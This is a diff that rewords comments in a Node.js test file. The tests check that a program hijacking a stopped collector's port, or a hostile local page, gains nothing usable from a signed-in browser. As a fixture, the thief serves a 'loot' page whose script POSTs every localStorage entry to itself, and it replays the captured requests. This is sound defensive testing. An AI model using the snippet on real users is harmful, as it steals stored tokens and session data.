@@ -1,5 +1,5 @@
-// Attacks on a signed-in browser: a page of another program on this machine, and a program that takes the port of a collector that
-// has stopped. Whatever they get is tried afterwards, and must be worth nothing.
+// Attacks a signed-in browser: by a page of another program on this machine, and by a program that takes the port of a
+// stopped collector. Afterwards, everything that they have received is tried, and must be worthless.
 import assert from "node:assert/strict";
 import { createServer, request } from "node:http";
 import { after, before, test } from "node:test";
@@ -26,7 +26,7 @@ after(async () => {
   await collector?.close();
 });
 
-/** A program that listens, remembers what it hears, and answers what it is told to. */
+/** A program that listens, records what it receives, and sends the given answers. */
 async function thief(port, answer) {
   const heard = [];
   const server = createServer((asked, reply) => {
@@ -42,7 +42,7 @@ async function thief(port, answer) {
   return { heard, port: server.address().port, close };
 }
 
-/** The status of a request as anybody can make it: every header is free. */
+/** The status of a request that a program sends, with any headers. */
 function send({ method = "GET", url, headers = {}, body = "" }) {
   return new Promise((resolve, reject) => {
     const asked = request({ agent: false, host: "127.0.0.1", port: collector.port, method, path: url, headers: { ...headers, host: `127.0.0.1:${collector.port}` } }, (answer) => {
@@ -54,7 +54,7 @@ function send({ method = "GET", url, headers = {}, body = "" }) {
   });
 }
 
-/** A tab that may see failures: the attacks make some. */
+/** Opens a page in which errors are expected, because the attacks cause some. */
 async function visit(path) {
   const tab = await browser.context.newPage();
   await tab.goto(path.startsWith("http") ? path : browser.base + path);
@@ -86,7 +86,7 @@ test("whoever takes the port of a stopped collector gets nothing that is of use,
   await open.locator(".link-connected").waitFor();
   await collector.stop();
 
-  // It answers every question with a lie, and a page of its own to whoever loads one.
+  // The program answers every request with a lie, and serves a page of its own.
   const lies = ["{\"token_required\":true,\"challenge\":{\"nonce\":\"00\",\"proof\":\"00\"}}", "{\"token_required\":false}", "{\"token_required\":true,\"challenge\":null}", "{}"];
   let turn = 0;
   const loot = "<!doctype html><title>loot</title><script>addEventListener('load', () => fetch('/loot', { method: 'POST', body: JSON.stringify(Object.entries(localStorage)) }))</script>";
@@ -96,7 +96,7 @@ test("whoever takes the port of a stopped collector gets nothing that is of use,
     if (asked.url === "/evil-worker.js") return reply.setHeader("Content-Type", "text/javascript").end(worker);
     return reply.setHeader("Content-Type", "text/html").end(loot);
   });
-  // The stream comes back within seconds, and the person looks at the page.
+  // The stream reconnects within seconds. Meanwhile the user continues to use the page.
   await open.evaluate(() => { history.pushState(null, "", "/search?q=secret-words"); dispatchEvent(new PopStateEvent("popstate")); });
   await eventually("the open tab has asked", () => port.heard.some(({ url }) => url.startsWith("/api/")), 20_000);
   await new Promise((resolve) => { setTimeout(resolve, 7_000); });
@@ -116,7 +116,7 @@ test("whoever takes the port of a stopped collector gets nothing that is of use,
   assert.ok(!JSON.stringify(port.heard.filter(({ url }) => url !== "/loot")).includes("secret-words"));
 
   await collector.start();
-  // Everything that it heard, sent again; and every secret in it as a token and as a code.
+  // Sends everything again that the program has recorded, and tries every secret in it as a token and as a code.
   for (const one of port.heard.filter(({ url }) => url.startsWith("/api/"))) {
     assert.ok((await send(one)) < 500);
     for (const path of ["/api/v1/sessions", "/api/v1/stream", "/api/v1/access"]) assert.equal(await send({ url: path, headers: one.headers }), 401, path);
@@ -130,7 +130,7 @@ test("whoever takes the port of a stopped collector gets nothing that is of use,
   const asked = await fetch(`${browser.base}/api/v1/login/challenge`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ id, page_nonce: "0123456789abcdef" }) }).then((answer) => answer.json());
   assert.equal(asked.challenge, null, "it ended with the collector that it was for");
 
-  // The tab that was open has its key in memory alone: it is in again, without a reload.
+  // The open tab has its key in memory only. It is signed in again without a reload.
   await open.locator(".link-connected").waitFor({ timeout: 60_000 });
   await open.getByRole("searchbox").first().waitFor();
   await open.close();
@@ -162,7 +162,7 @@ test("a code signs in once, and the page says what to do when it does not", { sk
     const text = await two.locator("main").textContent();
     assert.ok(text.includes("hookspan open") && !/bearer/i.test(text), text);
     await eventually("the code is gone from the address", () => !two.url().includes("#c="));
-    // The address can be pasted too.
+    // The whole address can be pasted as well.
     await two.getByLabel("Address or code").fill(collector.login);
     await two.getByRole("button", { name: "Sign in" }).click();
     await eventually("signed in", () => !two.url().includes("/login"));
